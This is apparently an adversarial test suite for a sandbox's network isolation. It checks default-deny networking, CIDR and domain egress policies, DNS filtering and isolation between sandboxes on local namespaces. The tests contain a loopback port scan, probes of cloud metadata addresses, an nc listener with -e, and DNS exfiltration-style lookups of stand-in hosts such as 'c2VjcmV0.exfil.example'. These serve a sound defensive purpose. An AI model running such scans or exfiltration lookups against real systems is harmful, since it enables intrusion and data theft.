/**
 * Network probing and egress policies. Destinations are a test host in a network namespace this
 * file creates (on 100.96.<k>.2, reached over a veth from the host) and the node's own loopback
 * ports; nothing leaves the machine. A fake upstream resolver on 127.0.0.1 answers `pkg.test`.
 */
import { execFile } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { Sandbox } from '../../sdk/index.ts';
import { advTest, underAttack } from './harness.ts';

const sh = promisify(execFile);
const k = (process.pid % 250) + 1;
const NS = `pdkt${process.pid}`;
const HOST_IF = `tph${process.pid}`;
const PEER_IF = `tpg${process.pid}`;
const TEST_HOST = `100.96.${k}.2`;
const TEST_GW = `100.96.${k}.1`;

// The fake upstream resolver: pkg.test → the test host; every name it is asked is logged.
const asked: string[] = [];
const dns = createSocket('udp4');
dns.on('message', (q, r) => {
  let off = 12;
  const labels: string[] = [];
  while (q[off]) {
    labels.push(q.toString('latin1', off + 1, off + 1 + (q[off] as number)));
    off += 1 + (q[off] as number);
  }
  const name = labels.join('.');
  asked.push(name);
  const head = Buffer.from(q.subarray(0, off + 5));
  head.writeUInt16BE(0x8180, 2);
  if (name !== 'pkg.test' || q.readUInt16BE(off + 1) !== 1) {
    head.writeUInt16BE(0x8183, 2);
    dns.send(head, r.port, r.address);
    return;
  }
  head.writeUInt16BE(1, 6);
  const ans = Buffer.from([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 30, 0, 4, ...TEST_HOST.split('.').map(Number)]);
  dns.send(Buffer.concat([head, ans]), r.port, r.address);
});
await new Promise<void>((resolve) => dns.bind(0, '127.0.0.1', resolve));

const test = advTest({ env: { PADDOCK_DNS_UPSTREAM: `127.0.0.1:${dns.address().port}` } });
let webDir = '';
const servers: Array<{ kill: () => void }> = [];

test.before(async () => {
  await sh('ip', ['netns', 'add', NS]);
  await sh('ip', ['link', 'add', HOST_IF, 'type', 'veth', 'peer', 'name', PEER_IF, 'netns', NS]);
  await sh('ip', ['addr', 'add', `${TEST_GW}/30`, 'dev', HOST_IF]);
  await sh('ip', ['link', 'set', HOST_IF, 'up']);
  for (const c of [['link', 'set', 'lo', 'up'], ['addr', 'add', `${TEST_HOST}/30`, 'dev', PEER_IF], ['link', 'set', PEER_IF, 'up'], ['route', 'add', 'default', 'via', TEST_GW]]) await sh('ip', ['-n', NS, ...c]);
  webDir = await mkdtemp(join(tmpdir(), 'paddock-web-'));
  await writeFile(join(webDir, 'index.html'), 'solution\n');
  for (const port of [8080, 8081]) {
    const { spawn } = await import('node:child_process');
    const p = spawn('ip', ['netns', 'exec', NS, 'busybox', 'httpd', '-f', '-p', `${TEST_HOST}:${port}`, '-h', webDir], { stdio: 'ignore' });
    servers.push({ kill: () => p.kill('SIGKILL') });
  }
  await new Promise((r) => setTimeout(r, 200));
});

test.after.always(async () => {
  for (const s of servers) s.kill();
  await sh('ip', ['link', 'del', HOST_IF]).catch(() => {});
  await sh('ip', ['netns', 'del', NS]).catch(() => {});
  dns.close();
  if (webDir) await rm(webDir, { recursive: true, force: true });
});

const natsPort = (url: string) => Number(new URL(url).port);
function hostAddress(): string {
  for (const list of Object.values(networkInterfaces())) for (const a of list ?? []) if (a.family === 'IPv4' && !a.internal) return a.address;
  return '127.0.0.1';
}

/** An HTTP GET from inside (busybox's static wget cannot resolve or even run here: nc it is); the body's last line. */
async function fetchFrom(sb: Sandbox, host: string, port: number): Promise<string> {
  const r = await sb.exec(['sh', '-c', `printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 2 ${host} ${port} | tail -1`], { timeoutMs: 10_000 });
  return r.stdout.trim();
}

/** The address the sandbox's resolver gives for `name`, or ''. */
async function resolve(sb: Sandbox, name: string): Promise<string> {
  const r = await sb.exec(['sh', '-c', `nslookup ${name} 2>/dev/null | awk '/^Address/ {print $2}' | grep -v ':53$' | tail -1`], { timeoutMs: 20_000 });
  return r.stdout.trim();
}

/** Connects from inside; 'open' or 'closed'. */
async function probe(sb: Sandbox, host: string, port: number): Promise<string> {
  const r = await sb.exec(['sh', '-c', `nc -w 1 ${host} ${port} </dev/null >/dev/null 2>&1 && echo open || echo closed`], { timeoutMs: 10_000 });
  return r.stdout.trim();
}

test.serial('no network by default: NATS, node ports, metadata addresses and a loopback scan find nothing', async (t) => {
  const sb = await t.context.pdk.sandboxes.create({ cpu: 1 });
  t.teardown(() => sb.kill());
  const nats = natsPort(t.context.cluster.url);
  await underAttack(t, 'connect to NATS, node ports, metadata; scan loopback', 'UNREACHABLE', async () => {
    const targets: Array<[string, number]> = [
      ['127.0.0.1', nats],
      [hostAddress(), nats],
      [hostAddress(), 22],
      ['169.254.169.254', 80],
      ['100.100.100.200', 80],
      [TEST_HOST, 8080],
    ];
    const open = [];
    for (const [h, p] of targets) if ((await probe(sb, h, p)) === 'open') open.push(`${h}:${p}`);
    const scan = await sb.exec(['sh', '-c', 'for p in $(seq 1 2000); do nc -w 1 127.0.0.1 $p </dev/null >/dev/null 2>&1 && echo $p; done; true'], { timeoutMs: 60_000 });
    open.push(...scan.stdout.split('\n').filter(Boolean));
    return open.length === 0 ? 'UNREACHABLE' : `OPEN ${open.join(' ')}`;
  });
});

test.serial('an egress policy opens exactly its CIDR:ports, changes while running, and never the node or NATS', async (t) => {
  const nats = natsPort(t.context.cluster.url);
  const sb = await t.context.pdk.sandboxes.create({ cpu: 1, network: { allow: [`${TEST_HOST}/32:8080`] } });
  t.teardown(() => sb.kill());
  t.is(await fetchFrom(sb, TEST_HOST, 8080), 'solution');
  t.is(await probe(sb, TEST_HOST, 8081), 'closed');
  const gw = (await sb.exec(['sh', '-c', "ip route | awk '/default/ {print $3}'"])).stdout.trim();
  t.regex(gw, /^100\.72\./);
  t.is(await probe(sb, gw, nats), 'closed');
  t.is(await probe(sb, hostAddress(), nats), 'closed');
  t.is(await probe(sb, TEST_GW, nats), 'closed');
  // Rollout phase: everything closed again, then reopened.
  await sb.network.set({});
  t.is(await probe(sb, TEST_HOST, 8080), 'closed');
  await sb.network.set({ allow: [`${TEST_HOST}/32:8081`] });
  t.is(await probe(sb, TEST_HOST, 8081), 'open');
  t.is(await probe(sb, TEST_HOST, 8080), 'closed');
  const bad = await t.throwsAsync(sb.network.set({ allow: ['not-a-cidr'] }));
  t.is((bad as { code?: string }).code, 'INVALID_REQUEST');
});

test.serial('domains resolve only through the DNS filter: allowed names open, others are refused and never asked upstream', async (t) => {
  const sb = await t.context.pdk.sandboxes.create({ cpu: 1, network: { domains: ['pkg.test'], ports: [8080] } });
  t.teardown(() => sb.kill());
  // Closed until the name is resolved through the filter, open (on the policy's ports) after.
  t.is(await probe(sb, TEST_HOST, 8080), 'closed');
  t.is(await resolve(sb, 'pkg.test'), TEST_HOST);
  t.is(await fetchFrom(sb, TEST_HOST, 8080), 'solution');
  t.is(await probe(sb, TEST_HOST, 8081), 'closed');
  t.is(await resolve(sb, 'c2VjcmV0.exfil.example'), '');
  t.is(await resolve(sb, 'pkg.test.evil.example'), '');
  t.false(
    asked.some((n) => n.includes('exfil') || n.includes('evil')),
    `upstream was asked: ${asked.join(', ')}`,
  );
  // A resolver of its own choosing is not reachable.
  t.is(await probe(sb, '127.0.0.1', 53), 'closed');
  const direct = await sb.exec(['sh', '-c', `nslookup pkg.test ${TEST_GW} 2>&1 | tail -2`], { timeoutMs: 20_000 });
  t.notRegex(direct.stdout, new RegExp(TEST_HOST.replace(/\./g, '\\.')));
});

test.serial('one sandbox cannot reach another unless its policy says so', async (t) => {
  const a = await t.context.pdk.sandboxes.create({ cpu: 1, network: { allow: [`${TEST_HOST}/32:8080`] } });
  const b = await t.context.pdk.sandboxes.create({ cpu: 1, network: { allow: [`${TEST_HOST}/32:8080`] } });
  t.teardown(() => Promise.all([a.kill(), b.kill()]));
  const bAddr = (await b.exec(['sh', '-c', "ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1"])).stdout.trim();
  t.regex(bAddr, /^100\.72\./);
  await b.exec(['sh', '-c', '(nc -l -p 9000 -e echo hi &) ; true']);
  t.is(await probe(a, bAddr, 9000), 'closed');
});
